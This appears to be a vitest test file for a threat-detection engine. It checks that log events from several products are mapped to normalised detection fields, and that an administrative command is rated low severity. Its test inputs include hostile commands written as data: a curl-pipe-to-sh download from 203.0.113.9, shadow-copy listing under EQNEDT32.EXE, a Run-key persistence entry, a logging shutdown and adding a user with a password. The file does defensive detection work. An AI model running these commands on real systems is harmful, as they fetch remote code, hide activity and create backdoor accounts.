/** Fields of products that nobody has seen get the names that rules ask for. */
import { expect, test } from 'vitest';
import { never, openThreatEngine, readEvents } from '../../support/threat-engine.ts';

const fieldsOf = (text: string) => readEvents(text)[0]?.fields ?? new Map<string, string[]>();

test.each([
  ['{"x":{"proc":{"cmdline":"vssadmin list shadows"},"parent":{"cmdline":"EQNEDT32.EXE -Embedding"}}}'],
  ['CEF:0|A|B|1|1|p|3|shost=PC1 sproc=EQNEDT32.EXE cs1Label=CommandLine cs1=vssadmin list shadows'],
  [
    '{"ActionType":"x","ProcessCommandLine":"vssadmin list shadows","InitiatingProcessFileName":"EQNEDT32.EXE"}',
  ],
])('command line, program and parent of %s', (text) => {
  const fields = fieldsOf(text);
  expect(fields.get('commandline')).toContain('vssadmin list shadows');
  expect(fields.get('image')).toContain('\\vssadmin.exe');
  expect(fields.get('parentimage')?.some((name) => name.endsWith('\\EQNEDT32.EXE'))).toBe(true);
});

test('registry key and value name are one target', () => {
  const fields = fieldsOf(
    '{"registry_key":"HKCU\\\\Run","registry_value_name":"u","registry_value_data":"a.exe"}',
  );
  expect(fields.get('targetobject')).toEqual(['HKCU\\Run\\u']);
  expect(fields.get('details')).toEqual(['a.exe']);
});

test.each([
  ['{"eventSource":"a","eventName":"StopLogging"}', 'stop logging'],
  [
    '{"verb":"create","requestURI":"/api/v1/namespaces/p/pods/web/exec?command=sh","user":{"username":"a"}}',
    'create pods exec',
  ],
  [
    '{"operationName":"Microsoft.Insights/diagnosticSettings/delete","category":"Administrative"}',
    'microsoft insights diagnostic settings delete | delete microsoft insights diagnostic settings',
  ],
])('action of %s', (text, action) => {
  expect(fieldsOf(text).get('auditaction')).toEqual([action]);
});

test('auditd writes arguments as hexadecimal digits', () => {
  const hex = Buffer.from('curl -s http://203.0.113.9/a | sh').toString('hex').toUpperCase();
  const fields = fieldsOf(`type=EXECVE msg=audit(1.1:1): argc=3 a0="/bin/sh" a1="-c" a2=${hex}`);
  expect(fields.get('commandline')).toContain('/bin/sh -c curl -s http://203.0.113.9/a | sh');
});

test('what administrators do as well is low where no event says who ran it', async () => {
  const engine = await openThreatEngine();
  const bare = await engine.methods.analyze({ text: 'net user helpsvc P@ss123 /add' }, never);
  const levels = bare.findings.filter(({ source }) => source === 'sigma').map(({ level }) => level);
  expect(levels).toContain('low');
  expect(levels).not.toContain('medium');
});
